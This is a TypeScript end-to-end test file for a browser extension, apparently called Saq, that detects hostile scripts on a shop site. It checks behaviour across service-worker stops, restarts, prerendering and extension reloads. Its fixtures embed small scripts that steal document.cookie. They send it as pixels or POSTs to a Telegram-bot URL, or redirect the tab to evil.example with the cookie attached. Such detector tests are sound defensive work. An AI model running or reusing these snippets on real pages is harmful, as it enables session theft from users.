/**
 * The extension's life in a real browser: its background stopped mid-verdict and mid-update (Chromium's
 * service worker, stopped as the browser stops an idle one), not started by other sites' tabs while no
 * shop page is open, a browser restart with the same profile, an
 * offline first start, a tab left open across an extension reload. Findings and feed state survive or are
 * rebuilt, nothing is counted twice, no alarm is lost, and the page never sees an error from Saq.
 *
 * What a browser cannot do here is unit-tested with fakes instead: storage quota errors
 * (tests/unit/lifecycle/storage-quota.test.ts, feed rows #52), an extension update with an older baseline
 * (feed rows #13 and #42: it needs two differently signed builds), a worker killed at every await of a
 * refresh (#51). Firefox has no service worker to stop: its event page's suspension is the same storage
 * path (storage.session for findings, storage.local for the feed), exercised by the restart test below.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomUUID } from 'node:crypto';
import { expect, it } from 'vitest';
import { FEED_ALARM } from '../../src/background/feed-updater.ts';
import { RETRY_DELAYS_MS } from '../../src/content/isolated/runtime.ts';
import { verdictKey } from '../../src/background/tab-findings.ts';
import { fromCdn, helperAttack, telegramUrl } from '../helpers/hostile/attacks.ts';
import { serveHostilePage } from '../helpers/hostile/pages.ts';
import { autoBuyScript, HELPER_CDN } from '../helpers/hostile-scripts.ts';
import { withSlowWorkerStart } from '../helpers/build-variant.ts';
import type { SaqBrowser } from '../helpers/harness.ts';
import { HELPER_EXTENSION, TEST_BUILD } from '../helpers/paths.ts';
import { describeEachBrowser, eventually, sleep } from './each-browser.ts';
import { expectNoPageErrors, mentions, ofKind, open, personAddsToCart, verdicts, waitForVerdicts } from './hostile-support.ts';
import { HOSTS, SINK_HOSTS } from '../shop/config.ts';
import { warningProbe } from './ui-support.ts';
import {
  alarmNames,
  checkNow,
  expectKeptAlarmInPopup,
  feedStatus,
  MIRROR,
  publishFeed,
  setMirrors,
  stopServiceWorker,
  workerAnswers,
  workerListensToTabs,
} from './lifecycle-support.ts';

const PRODUCT = '/kz/product/snow-leopard-silver';
const PIXELS = 40;

/** A helper that sends the cookie out as 40 pixels to 40 addresses, one every 80 ms. */
function pixelStream(tag: string): string {
  return `(() => { let i = 0; const t = setInterval(() => {
    new Image().src = ${JSON.stringify(telegramUrl(tag))} + '/p' + i + '?c=' + encodeURIComponent(document.cookie);
    if (++i >= ${PIXELS}) { clearInterval(t); window.__pixelsDone = true; }
  }, 80); })();`;
}

describeEachBrowser('lifecycle', (context) => {
  const reservations = (): number => context.shop.requests.filter((r) => r.path === '/api/cart/reserve').length;

  if (context.browserName === 'chromium') {
    it('the service worker stopped while it judges a stream of findings: every one judged once, none lost, the alarm kept', async () => {
      const saq = await context.launch();
      const tag = 'worker-stopped';
      const path = await serveHostilePage(
        context.shop,
        `${PRODUCT}?life=${tag}`,
        PRODUCT,
        { end: fromCdn(tag) },
        { [tag]: pixelStream(tag) },
      );
      const visit = await open(saq, path);
      await eventually(async () => (await verdicts(saq, visit.tabId)).some(ofKind('exfiltration')), Boolean, 'the first pixels judged');
      await stopServiceWorker(saq);
      await eventually(
        () => visit.page.evaluate(() => (window as unknown as { __pixelsDone?: boolean }).__pixelsDone === true),
        Boolean,
        'the helper to finish',
      );
      const pixelPath = (i: number): string => `${new URL(telegramUrl(tag)).pathname}/p${i}`;
      const all = await eventually(
        () => verdicts(saq, visit.tabId),
        (list) => Array.from({ length: PIXELS }, (_, i) => i).every((i) => list.some(ofKind('exfiltration', mentions(pixelPath(i))))),
        `all ${PIXELS} pixels judged, before and after the worker stopped`,
        // A finding refused while the worker was down is sent again for up to ~8 s (the content script's
        // retries), after a restart that takes seconds on a loaded machine: 10 s in all was overrun once in CI.
        RETRY_DELAYS_MS.reduce((sum, ms) => sum + ms, 0) + 10_000,
      );
      const keys = all.map(verdictKey);
      expect(keys.length, 'a verdict counted twice').toBe(new Set(keys).size);
      expect((await saq.report(visit.tabId)).findingCount).toBeGreaterThanOrEqual(PIXELS);
      expect(await alarmNames(saq)).toContain(FEED_ALARM);
      expectNoPageErrors(visit);
      // Its own waits allow ~38 s, after a launch and a worker restart that take seconds on a loaded machine: with
      // two e2e files at a time the suite's 60 s was overrun once in CI (ed36829; its retry passed).
    }, 120_000);

    it('with no shop page open, other sites never start the stopped worker; a shop tab leaving the shop does, and is cleared', async () => {
      const saq = await context.launch();
      const elsewhere = `https://${HOSTS.epay}/pay`;
      const pageUrl = async (tabId: number): Promise<string | null> => (await saq.report(tabId)).pageUrl;

      // A shop page, then its tab leaves the shop: the record goes, and with it the last reason to listen.
      const visit = await open(saq, PRODUCT);
      await eventually(
        () => pageUrl(visit.tabId),
        (url) => url !== null,
        'the shop page recorded',
      );
      await visit.page.goto(elsewhere, { waitUntil: 'load' });
      await eventually(
        () => pageUrl(visit.tabId),
        (url) => url === null,
        'the record cleared when the tab left the shop',
      );
      await eventually(
        () => workerListensToTabs(saq),
        (listens) => !listens,
        'the worker to stop listening to tabs',
      );
      await stopServiceWorker(saq);
      expect(await workerAnswers(saq), 'something else restarted the worker at once').toBe(false);

      // Other sites: a navigation, a new tab, a closed tab. (Asking for a report would wake the worker.)
      await visit.page.goto(`https://${SINK_HOSTS[0]}/`, { waitUntil: 'load' });
      const other = await saq.browser.newPage();
      await other.goto(elsewhere, { waitUntil: 'load' });
      await other.close();
      await sleep(1500);
      expect(await workerAnswers(saq), "another site's tab started Saq's worker").toBe(false);

      // The same events from a shop tab do start it, and the tab is cleared (the control for the above).
      const shopTab = await open(saq, PRODUCT);
      await eventually(
        () => pageUrl(shopTab.tabId),
        (url) => url !== null,
        'the second shop page recorded',
      );
      expect(await workerListensToTabs(saq), 'a shop page is open: its tab is watched').toBe(true);
      await stopServiceWorker(saq);
      expect(await workerAnswers(saq), 'something else restarted the worker at once').toBe(false);
      await shopTab.page.goto(elsewhere, { waitUntil: 'load' });
      await eventually(() => workerAnswers(saq), Boolean, 'the worker started by a shop tab leaving the shop');
      await eventually(
        () => pageUrl(shopTab.tabId),
        (url) => url === null,
        'the record cleared by the restarted worker',
      );
    });

    it('a shop page framed by another site: the tab is watched once its findings make a record, which goes when the tab closes', async () => {
      const saq = await context.launch();
      context.shop.setFixture(
        '/framer',
        `<!doctype html><title>framer</title><iframe src="https://kazcoins.nationalbank.kz${PRODUCT}"></iframe>`,
        {
          host: HOSTS.epay,
        },
      );
      await eventually(
        () => workerListensToTabs(saq),
        (listens) => !listens,
        'a worker with no shop page not listening to tabs',
      );
      const recordedTabs = (): Promise<string[]> =>
        saq.inExtension(async () => Object.keys(await chrome.storage.session.get(null)).filter((key) => key.startsWith('tab:')), undefined);
      const framer = await saq.browser.newPage();
      await framer.goto(`https://${HOSTS.epay}/framer`, { waitUntil: 'load' });
      // The shop's own insertions (its captcha, its reviews chunk) are findings: a record for the tab, of the
      // frame's. (Saq may not read another site's tab URL, so the tab is found by its record.)
      await eventually(recordedTabs, (keys) => keys.length === 1, "the framed shop page's findings recorded");
      expect(await workerListensToTabs(saq), 'a tab with a record is watched for leaving').toBe(true);
      await framer.close();
      await eventually(
        () => workerListensToTabs(saq),
        (listens) => !listens,
        'the record gone with its tab, and the listeners with it',
      );
      expect(await recordedTabs()).toEqual([]);
    });

    type Stored = { documentId?: string; frames: Array<{ frameId: number; parentDocumentId: string | null }> };
    /** The tab's page document id, as its record holds it, and its frames' parents, as its traffic record does. */
    const storedFrames = (saq: SaqBrowser, tabId: number): Promise<Stored> =>
      saq.inExtension(async (id) => {
        const all = await chrome.storage.session.get([`tab:${id}`, `traffic:${id}`]);
        const record = all[`tab:${id}`] as { documentId?: string } | undefined;
        const traffic = all[`traffic:${id}`] as { frames?: Array<{ frameId: number; parentDocumentId: string | null }> } | undefined;
        return { documentId: record?.documentId, frames: traffic?.frames ?? [] };
      }, tabId);
    /** Opens a shop page with two frames and waits until both are known as that page's. */
    const openWithFrames = async (saq: SaqBrowser): Promise<{ visit: Awaited<ReturnType<typeof open>>; seen: Stored }> => {
      context.shop.setFixture(
        '/kz/with-frames',
        `<!doctype html><html lang="kk"><head><meta charset="utf-8"><title>frames</title></head><body><iframe src="/kz/faq"></iframe><iframe src="/kz/faq?second"></iframe></body></html>`,
      );
      const visit = await open(saq, '/kz/with-frames');
      const seen = await eventually(
        () => storedFrames(saq, visit.tabId),
        ({ documentId, frames }) => documentId !== undefined && frames.length >= 2,
        "the page's document id and both frames' parents",
      );
      expect(seen.frames.map((frame) => frame.parentDocumentId)).toEqual([seen.documentId, seen.documentId]);
      expect(new Set(seen.frames.map((frame) => frame.frameId)).size).toBe(2);
      return { visit, seen };
    };

    // What frame-tops.ts relies on, as Chromium gives it: the top page's document id with its hello, and each
    // frame's load naming the document it is in. (Which message arrives first when a page is replaced is the
    // browser's race, which no test can force: tab-pages.test.ts judges the late frame batches.)
    it("a shop page's frames are known as that page's: the browser names the document each frame is in", async () => {
      const saq = await context.launch();
      const { visit, seen } = await openWithFrames(saq);
      // The next page is another document: its frames are its own.
      await visit.page.goto('https://kazcoins.nationalbank.kz/kz/with-frames?next', { waitUntil: 'load' });
      const next = await eventually(
        () => storedFrames(saq, visit.tabId),
        ({ documentId, frames }) =>
          documentId !== undefined && documentId !== seen.documentId && frames.filter((f) => f.parentDocumentId === documentId).length >= 2,
        "the next page's document id and its frames",
      );
      expect(next.documentId).not.toBe(seen.documentId);
    });

    // The harness's side of the test above: on an extension's first run, a webRequest event before the worker has
    // registered its listeners is never delivered. The harness opens pages only once they are (untilWorkerListens);
    // before it did, this test failed every time, and the one above once in CI (4635202).
    it("a worker slow to start still sees the first shop page's frames: the harness waits for its listeners", async () => {
      const saq = await context.launch({ extensionDir: withSlowWorkerStart(TEST_BUILD.chromium, 1500) });
      await openWithFrames(saq);
    });

    it('a shop page Chrome prerenders: its helper is judged on that page once it is shown, never on the page shown before', async () => {
      const saq = await context.launch();
      const tag = 'prerendered';
      const helper = `fetch(${JSON.stringify(telegramUrl(tag))}, { method: 'POST', mode: 'no-cors', body: document.cookie }).catch(() => {}); window.__sentWhilePrerendering = document.prerendering;`;
      const next = await serveHostilePage(context.shop, `${PRODUCT}?life=${tag}`, PRODUCT, { end: fromCdn(tag) }, { [tag]: helper });
      // The page shown first asks the browser to prerender the next one (speculation rules, as a shop may).
      const rules = JSON.stringify({ prerender: [{ source: 'list', urls: [next], eagerness: 'immediate' }] });
      context.shop.setFixture(
        '/kz/before-prerender',
        `<!doctype html><html lang="kk"><head><meta charset="utf-8"><title>before</title></head><body><a id="next" href="${next}">next</a><script type="speculationrules">${rules}</script></body></html>`,
      );
      const visit = await open(saq, '/kz/before-prerender');
      const stolen = ofKind('exfiltration', mentions('api.telegram.org'));
      // The next page is prerendered meanwhile, and its helper sends (it records whether that was while prerendering).
      await sleep(3000);
      const before = await saq.report(visit.tabId);
      expect(before.pageUrl).toContain('/kz/before-prerender');
      expect(before.verdicts.filter(stolen), "the prerendered page's send judged on the page shown").toEqual([]);
      await Promise.all([visit.page.waitForNavigation(), visit.page.click('#next')]);
      expect(await visit.page.evaluate(() => (window as { __sentWhilePrerendering?: boolean }).__sentWhilePrerendering)).toBe(true);
      const after = await eventually(
        () => saq.report(visit.tabId),
        (r) => (r.pageUrl ?? '').includes(`life=${tag}`) && r.verdicts.some(stolen),
        "the shown page's record, with its helper's send",
      );
      expect(after.severity).toBe('critical');
    });

    it('the service worker stopped in the middle of a feed update: nothing half-stored, the alarm kept, the next refresh completes', async () => {
      const saq = await context.launch();
      const rulesPath = await publishFeed(context.shop, 2);
      const release = context.shop.feed.hold(rulesPath);
      await setMirrors(saq, [MIRROR]);
      void checkNow(saq).catch(() => undefined); // answered by a worker that will not live to answer
      await eventually(
        async () => context.shop.requests.some((r) => r.path === `/${rulesPath}`),
        Boolean,
        'the update to be fetching the rules',
      );
      await stopServiceWorker(saq);
      release();
      const after = await feedStatus(saq); // wakes a fresh worker, which re-verifies what storage holds
      expect(after.rulesVersion).toBe(1);
      expect(await alarmNames(saq)).toContain(FEED_ALARM);
      expect(await checkNow(saq)).toMatchObject({ rulesVersion: 2, state: 'ok' });
      await stopServiceWorker(saq);
      expect((await feedStatus(saq)).rulesVersion).toBe(2);
    });
  }

  it('a shop page still reporting as its tab leaves the shop: its last findings are not added to the alarm kept for the tab', async () => {
    const saq = await context.launch();
    const tag = 'last-words';
    // Pixels every 25 ms, and a burst as the page is hidden: findings are in flight when the tab leaves.
    const helper = `(() => { let i = 0; const send = () => { new Image().src = ${JSON.stringify(telegramUrl(tag))} + '/p' + (i++) + '?c=' + encodeURIComponent(document.cookie); };
      setInterval(send, 25);
      addEventListener('pagehide', () => { for (let k = 0; k < 20; k++) send(); });
      addEventListener('beforeunload', () => { for (let k = 0; k < 20; k++) send(); }); })();`;
    const path = await serveHostilePage(context.shop, `${PRODUCT}?life=${tag}`, PRODUCT, { end: fromCdn(tag) }, { [tag]: helper });
    const visit = await open(saq, path);
    await eventually(async () => (await verdicts(saq, visit.tabId)).some(ofKind('exfiltration')), Boolean, 'the first pixels judged');
    await visit.page.goto(`https://${HOSTS.epay}/pay`, { waitUntil: 'load' });
    // A critical alarm stays with the tab, marked left (the next test); the page is gone from it.
    const left = await eventually(
      () => saq.report(visit.tabId),
      (report) => report.leftAt !== null,
      'the alarm kept, marked left, when the tab left the shop',
    );
    // What the old page sent as it went arrives now or never; none of it may be added to what the tab keeps.
    await sleep(1500);
    const after = await saq.report(visit.tabId);
    expect(after.findingCount, "the old page's last findings were added after the tab left the shop").toBe(left.findingCount);
    expect(after.verdicts).toEqual(left.verdicts);
    // Closing the tab drops what was kept, and with it the last reason to listen to tabs.
    await visit.page.close();
    await eventually(
      () => saq.report(visit.tabId),
      (report) => report.pageUrl === null && report.findingCount === 0,
      'the kept alarm dropped when the tab closed',
    );
    if (context.browserName === 'chromium') {
      await eventually(
        () => workerListensToTabs(saq),
        (listens) => !listens,
        'the worker to stop listening to tabs',
      );
    }
  });

  it('a helper that steals the session and takes the tab away to its own site: the alarm stays with the tab until it closes', async () => {
    const saq = await context.launch();
    const tag = 'steal-and-leave';
    // The cookie to a Telegram bot, then the tab to the "helper's" site once the test has found the tab. (A fixed
    // 1.5 s was too short for the tab lookup of a loaded machine's Firefox: the tab had left before it was found.)
    const helper = `(() => {
      fetch(${JSON.stringify(telegramUrl(tag))}, { method: 'POST', mode: 'no-cors', body: document.cookie }).catch(() => {});
      const leave = setInterval(() => {
        if (!window.__tabFound) return;
        clearInterval(leave);
        location.href = 'https://evil.example/thanks?c=' + encodeURIComponent(document.cookie);
      }, 50);
    })();`;
    const path = await serveHostilePage(context.shop, `${PRODUCT}?life=${tag}`, PRODUCT, { end: fromCdn(tag) }, { [tag]: helper });
    const visit = await open(saq, path);
    await visit.page.evaluate(() => void ((window as unknown as { __tabFound?: boolean }).__tabFound = true));
    await eventually(
      async () => visit.page.url(),
      (url) => url.startsWith('https://evil.example/thanks'),
      'the helper to take the tab to its site',
    );
    const kept = await eventually(
      () => saq.report(visit.tabId),
      (report) => report.leftAt !== null,
      'the alarm kept for the tab, marked left',
    );
    expect(kept.severity).toBe('critical');
    expect(kept.verdicts.some(ofKind('exfiltration', mentions('api.telegram.org')))).toBe(true);
    // Chromium also saw the redirect itself carry the cookie off (its navigate event), though the page went with it.
    if (context.browserName === 'chromium')
      expect(
        kept.verdicts.some((v) => v.finding.evidence.via === 'navigation' && mentions('evil.example/thanks?c=')(v.finding.evidence)),
      ).toBe(true);
    // The browser clears a navigating tab's badge; Saq puts the alarm back on it.
    await visit.page.waitForFunction(() => document.readyState === 'complete');
    expect(
      await eventually(
        () => saq.badgeText(visit.tabId),
        (text) => text !== '',
        'the badge shown again',
      ),
    ).not.toBe('');
    await expectKeptAlarmInPopup(saq, visit.tabId, 'left-page', 'findings');
    await visit.page.close();
    await eventually(
      () => saq.report(visit.tabId),
      (report) => report.pageUrl === null && report.verdicts.length === 0,
      'the kept alarm dropped when the tab closed',
    );
  });

  it('a helper that steals the session and reloads the page to hide it: the new page starts clean, the alarm stays in view', async () => {
    const saq = await context.launch();
    const tag = 'steal-and-reload';
    // The cookie to a Telegram bot, then a reload; on the reloaded page the helper lies low.
    const helper = `(() => {
      if (performance.getEntriesByType('navigation')[0]?.type === 'reload') { window.__reloaded = true; return; }
      fetch(${JSON.stringify(telegramUrl(tag))}, { method: 'POST', mode: 'no-cors', body: document.cookie }).catch(() => {});
      setTimeout(() => location.reload(), 1500);
    })();`;
    const path = await serveHostilePage(context.shop, `${PRODUCT}?life=${tag}`, PRODUCT, { end: fromCdn(tag) }, { [tag]: helper });
    const visit = await open(saq, path);
    await eventually(
      () => visit.page.evaluate(() => (window as unknown as { __reloaded?: boolean }).__reloaded === true).catch(() => false),
      Boolean,
      'the helper to reload the page',
    );
    const stolen = ofKind('exfiltration', mentions('api.telegram.org'));
    const report = await eventually(
      () => saq.report(visit.tabId),
      (r) => (r.earlier ?? null) !== null && r.leftAt === null,
      "the reloaded page's record, with the alarm of the page before",
    );
    expect(report.pageUrl).toContain(`life=${tag}`);
    expect(report.verdicts.some(stolen), 'the reloaded page sent nothing').toBe(false);
    expect(report.severity, "the reloaded page's own verdicts are not what is critical").not.toBe('critical');
    expect(report.earlier!.severity).toBe('critical');
    expect(report.earlier!.verdicts.some(stolen)).toBe(true);
    // The in-page warning the reload cut short is raised again on the page that replaced it.
    const warning = await eventually(
      () => warningProbe(saq, visit.tabId),
      (probe) => probe?.severity === 'critical',
      "the in-page warning for the earlier page's alarm",
    );
    expect(warning!.visible).toBe(true);
    await eventually(
      () => saq.badgeText(visit.tabId),
      (text) => text !== '',
      'the badge on the reloaded page',
    );
    await expectKeptAlarmInPopup(saq, visit.tabId, 'earlier-page', 'earlier-findings');
    await visit.page.close();
    await eventually(
      () => saq.report(visit.tabId),
      (r) => r.pageUrl === null && r.earlier === null,
      'the alarm dropped when the tab closed',
    );
  });

  it('a shop page the tab goes back to from the back-forward cache is watched again: the helper acting there is judged', async () => {
    const saq = await context.launch();
    const tag = 'bfcache';
    // A pixel when the page loads and one each time it is shown again; the page notes how it came back.
    const helper = `(() => { let i = 0; const send = () => { new Image().src = ${JSON.stringify(telegramUrl(tag))} + '/p' + (i++) + '?c=' + encodeURIComponent(document.cookie); };
      send();
      addEventListener('pageshow', (e) => { if (e.persisted) { window.__restored = true; send(); } }); })();`;
    const path = await serveHostilePage(
      context.shop,
      `${PRODUCT}?life=${tag}`,
      PRODUCT,
      { end: fromCdn(tag) },
      { [tag]: helper },
      {
        // Fixtures are served `no-store`, which keeps a page out of the cache; the replica's own product page is not.
        'Cache-Control': 'no-cache',
      },
    );
    const visit = await open(saq, path);
    await eventually(async () => (await verdicts(saq, visit.tabId)).some(ofKind('exfiltration')), Boolean, 'the first pixel judged');
    await visit.page.goto(`https://${HOSTS.epay}/pay`, { waitUntil: 'load' });
    await eventually(
      () => saq.report(visit.tabId),
      (report) => report.leftAt !== null,
      'the alarm kept, marked left, when the tab left the shop',
    );
    // A page restored from the cache fires no load event, and Firefox's driver waits for one in vain: the
    // page's own word says when it is back.
    void visit.page.goBack({ timeout: 10_000 }).catch(() => null);
    await eventually(
      () => visit.page.evaluate(() => (window as unknown as { __restored?: boolean }).__restored === true).catch(() => false),
      Boolean,
      'the page restored from the back-forward cache (else this test proves nothing)',
    );
    const back = await eventually(
      () => saq.report(visit.tabId),
      (report) => report.leftAt === null && report.verdicts.some(ofKind('exfiltration', mentions('/p1?'))),
      'the restored page shown again and its pixel judged',
    );
    expect(back.pageUrl).toContain(`life=${tag}`);
  });

  it('a browser restart with the same profile: the feed state survives, the alarm is there, detection works', async () => {
    const profile = mkdtempSync(join(tmpdir(), 'saq-profile-'));
    const firefoxUuid = randomUUID();
    context.shop.setFixture('/autobuy.js', autoBuyScript(), { host: HELPER_CDN, contentType: 'text/javascript' });
    try {
      await publishFeed(context.shop, 2);
      const first = await context.launch({ userDataDir: profile, firefoxUuid, extraExtensions: [HELPER_EXTENSION] });
      await setMirrors(first, [MIRROR]);
      expect(await checkNow(first)).toMatchObject({ rulesVersion: 2, state: 'ok' });
      await first.close();

      const second = await context.launch({ userDataDir: profile, firefoxUuid, extraExtensions: [HELPER_EXTENSION] });
      expect((await feedStatus(second)).rulesVersion).toBe(2);
      expect(await alarmNames(second)).toContain(FEED_ALARM);
      const visit = await open(second, PRODUCT);
      await waitForVerdicts(second, visit.tabId, { 'the helper caught after the restart': ofKind('untrusted-activation') });
      expect((await second.report(visit.tabId)).rulesVersion).toBe('2');
      await second.close();
    } finally {
      rmSync(profile, { recursive: true, force: true });
    }
  });

  it('offline first start: no mirror answers, the signed baseline judges, the status says so', async () => {
    context.shop.setFixture('/autobuy.js', autoBuyScript(), { host: HELPER_CDN, contentType: 'text/javascript' });
    const saq = await context.launch({ extraExtensions: [HELPER_EXTENSION] });
    // Unresolvable in Chromium (no host rule for it), refused by the replica's proxy in Firefox.
    await setMirrors(saq, ['https://offline-mirror.invalid/', MIRROR]);
    const status = await checkNow(saq); // the feed host has no files at all: 404
    expect(status).toMatchObject({ rulesVersion: 1, state: 'error' });
    expect(status.lastError?.code).toMatch(/^(NETWORK|HTTP_STATUS|TIMEOUT)$/);
    const visit = await open(saq, PRODUCT);
    await waitForVerdicts(saq, visit.tabId, { 'the helper caught by the baseline': ofKind('untrusted-activation') });
    const popup = await saq.openPopup(visit.tabId);
    const panel = await popup.$eval('[data-testid="feed-status"]', (node) => ({
      state: node.getAttribute('data-state'),
      text: node.textContent ?? '',
    }));
    expect(panel.state).toBe('error');
    expect(panel.text).toContain('1');
  });

  it('a tab open across an extension reload: no error in the page, the shop works, the reloaded page is watched again', async () => {
    const saq = await context.launch();
    const tag = 'across-reload';
    const path = await serveHostilePage(
      context.shop,
      `${PRODUCT}?life=${tag}`,
      PRODUCT,
      { end: fromCdn(tag) },
      { [tag]: helperAttack('page', tag) },
    );
    const visit = await open(saq, path);
    await waitForVerdicts(saq, visit.tabId, { 'the helper before the reload': ofKind('exfiltration', mentions(tag)) });
    // Installing the same build again reloads the extension, as an update or a developer's reload does.
    // (chrome.runtime.reload() would do the same for a person; for an extension loaded over CDP, as the
    // harness loads it, Chromium unloads it and does not bring it back.)
    await saq.browser.installExtension(TEST_BUILD[saq.name]);
    // The old content scripts are orphaned: they must not throw into the page, and the shop still works.
    await new Promise((resolve) => setTimeout(resolve, 2_100));
    await personAddsToCart(visit.page, reservations);
    context.shop.setFixture(`/${tag}-late.js`, helperAttack('page', `${tag}-late`), { host: HELPER_CDN, contentType: 'text/javascript' });
    await visit.page.evaluate(
      (src) => void document.body.append(Object.assign(document.createElement('script'), { src })),
      `https://${HELPER_CDN}/${tag}-late.js`,
    );
    const oldTab = await saq.tabIdOf(visit.page);
    if (saq.name === 'chromium') {
      // Chromium puts no content script into tabs already open (Saq uses `scripting` only for the in-page
      // warning, not to inject its sensors): the page is not watched until it is reloaded, and the popup says so.
      await new Promise((resolve) => setTimeout(resolve, 2_000));
      expect((await saq.report(oldTab)).verdicts).toEqual([]);
      const popup = await saq.openPopup(oldTab);
      expect(await popup.$eval('[data-testid="verdict"]', (node) => node.getAttribute('data-severity'))).toBe('unchecked');
      await popup.close();
    } else {
      // Firefox injects the new content scripts into the open tab: it is watched again at once, once.
      const seen = await waitForVerdicts(saq, oldTab, {
        'the helper seen by the new content scripts': ofKind('exfiltration', mentions(`${tag}-late`)),
      });
      expect(seen.map(verdictKey).length).toBe(new Set(seen.map(verdictKey)).size);
    }
    expectNoPageErrors(visit);
    // A reload of the page brings Saq's new content scripts: the helper is seen again, once.
    await visit.page.reload({ waitUntil: 'load' });
    const tabId = await saq.tabIdOf(visit.page);
    const list = await waitForVerdicts(saq, tabId, { 'the helper after the page reload': ofKind('exfiltration', mentions(tag)) });
    const keys = list.map(verdictKey);
    expect(keys.length).toBe(new Set(keys).size);
    expectNoPageErrors(visit);
  });
});
